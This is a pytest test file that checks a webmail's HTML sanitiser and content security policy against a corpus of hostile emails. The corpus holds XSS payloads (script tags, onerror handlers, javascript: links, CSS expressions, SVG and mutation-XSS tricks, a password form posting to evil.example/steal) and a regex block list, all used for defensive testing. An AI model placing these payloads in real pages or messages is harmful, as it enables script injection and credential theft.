"""A corpus of hostile messages, delivered through SMTP submission and shown by the webmail:
nothing active may reach the page (scripts, event handlers, javascript: and data: links, CSS
expressions, SVG scripts, frames, forms, meta refresh), remote images stay blocked until the
reader asks for them, and malformed MIME gives a readable page, never an error."""

from __future__ import annotations

import base64
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.fixtures.gateway import RunningGateway, gateway_settings, running_gateway
from tests.web.webmail_client import Pro, folder_url, professional, send, signed_in
from web.webmail.html import sanitise

HTML_BODIES = {
    "script": ('<p>Bonjour</p><script>document.title="pwned"</script>'
               '<SCRIPT SRC=//x.example/a.js></SCRIPT>'),
    "onerror": ('<img src="x" onerror="alert(1)"><body onload=alert(2)>'
                '<div onmouseover="x()">survol</div>'),
    "javascript-links": ('<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(2)">b</a>'
                         '<a href="java&#x09;script:alert(3)">c</a><a href="data:text/html,'
                         '&lt;script&gt;alert(4)&lt;/script&gt;">d</a>'
                         '<a href="vbscript:msgbox(5)">e</a><a href="https://ok.example/">ok</a>'),
    "css": ('<style>body{background:url(https://track.example/css.png)}'
            'p{width:expression(alert(1))}</style>'
            '<p style="width:expression(alert(2));background:url(javascript:alert(3))">css</p>'
            '<link rel="stylesheet" href="https://evil.example/x.css">'),
    "remote-images": ('<p>Lettre</p><img src="https://track.example/pixel.gif?id=42" alt="logo">'
                      '<img src="http://track.example/p2.gif"><img src="cid:logo@x">'
                      '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    "svg": ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
            '<a xlink:href="javascript:alert(3)"><text>t</text></a></svg>'
            '<math><mtext><table><mglyph><style><img src=x onerror=alert(4)>'),
    "frames-forms": ('<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>'
                     '<embed src="x.swf"><form action="https://evil.example/steal"><input '
                     'name="password"><button>ok</button></form><meta http-equiv="refresh" '
                     'content="0;url=https://evil.example/"><base href="https://evil.example/">'),
    "mutation-xss": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
                     '<!--<img src=x onerror=alert(2)>--><textarea><script>alert(3)</script>'
                     '</textarea>'),
}
FORBIDDEN = [r"<script", r"\son[a-z]+\s*=", r"javascript:", r"vbscript:", r"expression\(",
             r"<style", r"<iframe", r"<object", r"<embed", r"<form", r"<input", r"<meta",
             r"<base", r"<svg", r"<link", r"data:", r"track\.example", r"evil\.example"]


def html_message(sender: Pro, to: Pro, name: str, html: str) -> bytes:
    return (f"From: {sender.address}\r\nTo: {to.address}\r\nSubject: Corpus {name}\r\n"
            f"Date: Tue, 1 Dec 2026 10:00:00 +0100\r\nMessage-ID: <{name}@mssante.test>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b1\"\r\n"
            "\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nversion texte\r\n"
            "--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            f"{html}\r\n--b1--\r\n").encode()


MALFORMED = {
    "no-closing-boundary": ("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=zz\r\n"
                            "\r\n--zz\r\nContent-Type: text/plain\r\n\r\ntexte sans fin\r\n"),
    "missing-boundary": ("MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n\r\n"
                         "<script>alert(1)</script> corps\r\n"),
    "bad-charset-base64": ("MIME-Version: 1.0\r\nContent-Type: text/html; charset=x-inconnu\r\n"
                           "Content-Transfer-Encoding: base64\r\n\r\n"
                           "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PjxwPm9rPC9wPg=!!\r\n"),
    "html-as-plain": ("MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                      "<script>alert(1)</script><img src=x onerror=alert(2)>\r\n"),
    "bad-encoded-words": ("MIME-Version: 1.0\r\nContent-Type: text/plain\r\n"
                          "X-Bizarre: =?x-inconnu?B?////?= =?utf-8?Q?<script>?=\r\n\r\ncorps\r\n"),
}


def message_html(page: str) -> str:
    match = re.search(r'<div class="message-html">(.*?)</div>\s*</div>\s*<details', page, re.S)
    assert match, page[-3000:]
    return match.group(1)


def inert(fragment: str) -> None:
    for pattern in FORBIDDEN:
        assert not re.search(pattern, fragment, re.I), (pattern, fragment)
    for anchor in re.findall(r"<a\b[^>]*>", fragment):
        assert 'rel="noopener noreferrer"' in anchor and 'target="_blank"' in anchor, anchor


def test_the_sanitiser_alone_leaves_nothing_active() -> None:
    for name, html in HTML_BODIES.items():
        clean = sanitise(html)
        inert(clean.html)
        assert "https://ok.example/" in sanitise(HTML_BODIES["javascript-links"]).html, name
    shown = sanitise(HTML_BODIES["remote-images"], images=True)
    assert 'src="https://track.example/pixel.gif?id=42"' in shown.html
    assert "http://track.example/p2.gif" not in shown.html and "cid:" not in shown.html
    assert sanitise(HTML_BODIES["remote-images"]).blocked_images == 2


@pytest.fixture
async def gw(tmp_path: Path) -> AsyncIterator[RunningGateway]:
    settings = gateway_settings(tmp_path / "gw", directory={"enabled": False})
    async with running_gateway(settings) as running:
        yield running


async def test_hostile_corpus_renders_with_nothing_active(gw: RunningGateway) -> None:
    alice = await professional(gw, "alice")
    bob = await professional(gw, "bob")
    names = list(HTML_BODIES)
    for name in names:
        await send(gw, bob, [alice.address], html_message(bob, alice, name, HTML_BODIES[name]))
    for name, rest in MALFORMED.items():
        raw = (f"From: {bob.address}\r\nTo: {alice.address}\r\nSubject: Corpus {name}\r\n"
               f"Message-ID: <{name}@mssante.test>\r\n{rest}").encode()
        await send(gw, bob, [alice.address], raw)
    async with signed_in(gw, alice) as http:
        inbox = await folder_url(http)
        for uid, name in enumerate(names, start=1):
            page = await http.get(f"{inbox}/message/{uid}")
            assert page.status_code == 200, (name, page.text[-2000:])
            assert "<script" not in page.text.lower(), name
            assert "unsafe-inline" not in page.headers["content-security-policy"]
            inert(message_html(page.text))
        remote = names.index("remote-images") + 1
        page = await http.get(f"{inbox}/message/{remote}")
        assert "2 images distantes bloquées" in page.text and "Afficher les images" in page.text
        assert "img-src 'self';" in page.headers["content-security-policy"]
        shown = await http.get(f"{inbox}/message/{remote}?images=1")
        assert 'src="https://track.example/pixel.gif?id=42"' in message_html(shown.text)
        assert "img-src 'self' https:;" in shown.headers["content-security-policy"]
        assert "script-src 'self'" in shown.headers["content-security-policy"]
        for uid, name in enumerate(MALFORMED, start=len(names) + 1):
            page = await http.get(f"{inbox}/message/{uid}")
            assert page.status_code == 200, (name, page.text[-2000:])
            lowered = page.text.lower()
            assert "<script" not in lowered and "<img src=x" not in lowered, name
        plain = await http.get(f"{inbox}/message/{len(names) + 4}")
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in plain.text


PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


def related_message(sender: Pro, to: Pro, subject: str, html: str,
                    parts: list[tuple[str, str, str]]) -> bytes:
    """multipart/related: the HTML part, then ``(content type, Content-ID, base64 body)``."""
    out = (f"From: {sender.address}\r\nTo: {to.address}\r\nSubject: {subject}\r\n"
           f"Date: Tue, 1 Dec 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
           'Content-Type: multipart/related; boundary="r1"\r\n\r\n'
           "--r1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
           f"{html}\r\n")
    for kind, cid, body in parts:
        out += (f"--r1\r\nContent-Type: {kind}\r\nContent-ID: <{cid}>\r\n"
                "Content-Transfer-Encoding: base64\r\nContent-Disposition: inline\r\n\r\n"
                f"{body}\r\n")
    return (out + "--r1--\r\n").encode()


async def test_cid_images_come_from_the_message_own_parts(gw: RunningGateway) -> None:
    """RFC 2392 ``cid:`` images show from the message's own image parts through a URL of
    the webmail checked like an attachment; a cid naming a part that is not an image (HTML,
    SVG) or another message's part gets no address, and those URLs answer 404."""
    alice = await professional(gw, "alice")
    bob = await professional(gw, "bob")
    png = base64.b64encode(PNG).decode()
    html = ('<p>Schéma : <img src="cid:logo@cabinet" alt="logo"> '
            '<img src="cid:page@cabinet" alt="page"> <img src="cid:dessin@cabinet" alt="svg"> '
            '<img src="cid:autre@cabinet" alt="autre"> <a href="cid:logo@cabinet">lien</a> '
            '<img src="/courrier/dossier/1/message/2/image/2" alt="direct"></p>')
    svg = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg">'
                           b'<script>alert(1)</script></svg>').decode()
    page_part = base64.b64encode(b"<script>alert(1)</script>").decode()
    await send(gw, bob, [alice.address], related_message(bob, alice, "Avec image", html, [
        ("image/png", "logo@cabinet", png), ("text/html", "page@cabinet", page_part),
        ("image/svg+xml", "dessin@cabinet", svg)]))
    await send(gw, bob, [alice.address], related_message(
        bob, alice, "Autre", "<p>autre</p>", [("image/png", "autre@cabinet", png)]))
    async with signed_in(gw, alice) as http:
        inbox = await folder_url(http)
        page = await http.get(f"{inbox}/message/1")
        assert page.status_code == 200
        shown = message_html(page.text)
        inert(shown)
        assert re.findall(r'<img [^>]*src="([^"]+)"', shown) == [f"{inbox}/message/1/image/2"]
        assert "cid:" not in shown and "<a " in shown and "href" not in shown.split("<a ")[1]
        csp = page.headers["content-security-policy"]
        assert "img-src 'self';" in csp and "unsafe-inline" not in csp
        image = await http.get(f"{inbox}/message/1/image/2")
        assert image.status_code == 200 and image.content == PNG
        assert image.headers["content-type"] == "image/png"
        assert image.headers["x-content-type-options"] == "nosniff"
        for part in ("1", "3", "4", "9", "0", "2.1"):
            assert (await http.get(f"{inbox}/message/1/image/{part}")).status_code == 404, part
        assert (await http.get(f"{inbox}/message/2/image/2")).status_code == 200
    async with signed_in(gw, bob) as http:
        assert (await http.get(f"{inbox}/message/1/image/2")).status_code == 404
